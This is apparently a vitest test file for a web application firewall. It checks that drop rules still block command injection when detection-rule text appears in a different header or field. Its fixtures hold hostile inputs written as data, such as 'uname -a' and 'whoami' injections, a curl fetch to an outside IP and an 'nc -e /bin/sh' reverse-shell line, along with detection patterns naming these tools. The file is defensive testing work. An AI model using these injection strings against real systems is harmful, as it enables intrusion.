/**
 * Rev 2026-12-10y (fp28, session 28): 9000314 (and its parts 9000375, 9000384-9000388), 9000323 and 9000329 are not
 * dropped where a detection rule's text goes on after the command in the same value: a Wazuh rule's `</rule>`, a
 * Snort/Suricata rule's `sid:N;`, a Sigma or YARA rule's `condition:`, a fail2ban filter's `ignoreregex =`, a ModSecurity
 * rule's `id:N` (there 9000363/9000364 alert and the model decides). Rev 2026-12-10p exempted any request that held such
 * a marker anywhere, so one header (`X-Note: sid:1;`) turned the drop rules into alerts for every attack beside it. The
 * same value ends at a line end (a header), an `&` outside an entity (a parameter) or a JSON string's end; a later
 * command in another value is still searched for (evaluate-rule.ts tries a pcre again past a match its later relative
 * option ruled out), so an exempt rule text in one header does not shield an injection in the body.
 */
import { describe } from 'vitest';
import type { RequestSpec } from './fixtures.js';
import { BROWSER, FORM_HEADERS, JSON_HEADERS, form, json, q, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet } from './bundled-requests.js';

const { hits, rules } = useBundledRuleSet();

const withHeader = (spec: RequestSpec, name: string, value: string): RequestSpec => ({ ...spec, headers: [...(spec.headers ?? BROWSER), [name, value]] });
const wazuhRaw = (pattern: string): RequestSpec => ({
  method: 'PUT',
  url: '/rules/files/local_rules.xml?overwrite=true',
  headers: [['Host', '10.0.4.12:55000'], ['User-Agent', 'python-requests/2.32.3'], ['Content-Type', 'application/octet-stream']],
  body: `<group name="local,attack,">\n  <rule id="100253" level="10">\n    <if_sid>31108</if_sid>\n    <url>${pattern}</url>\n    <description>Command injection attempt: $(url)</description>\n  </rule>\n</group>\n`,
});
/** The same Wazuh rule sent through the manager's API proxy as a JSON string (\n, \" escapes). */
const wazuhJson = (pattern: string): RequestSpec => ({
  method: 'POST',
  url: '/api/request',
  headers: JSON_HEADERS,
  body: JSON.stringify({ method: 'PUT', path: '/rules/files/local_rules.xml?overwrite=true', body: { body: `<group name="local,attack,">\n  <rule id="100807" level="6">\n    <match>${pattern}</match>\n    <description>Probe</description>\n  </rule>\n</group>`, origin: 'raw' } }),
});
/** A Snort rule saved in pfSense's custom-rules form (form-encoded), and one in a JSON API. */
const snortForm = (content: string): RequestSpec => ({
  method: 'POST',
  url: '/snort/snort_rules.php?id=0',
  headers: FORM_HEADERS,
  body: `id=0&openruleset=custom.rules&customrules=${encodeURIComponent(`alert tcp $EXTERNAL_NET any -> $HTTP_SERVERS $HTTP_PORTS (msg:"LOCAL probe"; flow:established,to_server; content:"${content}"; http_uri; classtype:attempted-recon; sid:6431486; rev:3;)`)}&save=Save`,
});
const snortJson = (content: string): RequestSpec => json(JSON.stringify({ rule: `alert http any any -> any any (msg:"LOCAL probe"; content:"${content}"; sid:1000001; rev:1;)` }));

const CASES: RuleCase[] = [
  // The attack with a marker in another header, parameter or JSON field blocks; the rule text itself does not.
  [9000314, 'block', 'uname -a in a query, a Snort sid in another header', withHeader(q('host=127.0.0.1;uname+-a'), 'X-Note', 'sid:1;'), wazuhRaw('gobuster|uname -a')],
  [9000314, 'block', 'uname -a in a form value, a sid in another parameter', form('note=sid%3A1%3B&host=127.0.0.1%3Buname+-a'), snortForm('|uname -a')],
  [9000314, 'block', 'uname -a in a JSON field, a sid in the next field', json('{"host":"127.0.0.1;uname -a","note":"sid:1;"}'), snortJson('|uname -a')],
  [9000314, 'block', 'curl in a form body, an exempt rule text with a command in a header before it', withHeader(form('host=127.0.0.1%3Bcurl+http%3A%2F%2F203.0.113.9%2Fx'), 'X-Note', 'x;curl http://a.example/x sid:1;'), wazuhJson('javascript:|curl http://|xp_cmdshell')],
  [9000384, 'block', '/bin/sh in a query, </rule> in a header', withHeader(q('cmd=a%7C%2Fbin%2Fsh'), 'X-Note', '</rule>'), wazuhJson('/xmlrpc.php|/bin/sh|waitfor delay')],
  [9000385, 'block', 'nc -e in a form, a fail2ban ignoreregex in another parameter', form('host=10.0.0.1%7Cnc+-e+%2Fbin%2Fsh+203.0.113.7+4444&f=ignoreregex+%3D'), { method: 'POST', url: '/filesystem/write?path=%2Fetc%2Ffail2ban%2Ffilter.d%2Fweb.conf', headers: [...BROWSER, ['Content-Type', 'text/plain']], body: '[Definition]\nfailregex = ^<HOST> -.*"(GET|POST) [^"]*(?:win\\.ini|nc -e|%2e%2e%2f)[^"]*" (?:404|403)\nignoreregex =\n' }],
  [9000329, 'block', 'a bare probe between pipes, a Sigma condition in a header', withHeader(form('name=x.pptx%7Cuname+-a%7C&go=1'), 'X-Note', 'condition: selection'), wazuhRaw('/wp-login.php|/actuator/|whoami|..\\')],
  [9000323, 'block', 'whoami after a pipe, a Wazuh rule text in another header', withHeader(q('host=127.0.0.1%7Cwhoami'), 'X-Rule', '<rule id="100100" level="5"></rule>'), wazuhJson('onload=|whoami|&lt;script')],
];

describe('bundled drop rules exempt only a detection rule\'s text in the same value (rev 2026-12-10y)', () => {
  testRuleCases(CASES, hits);
  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
});
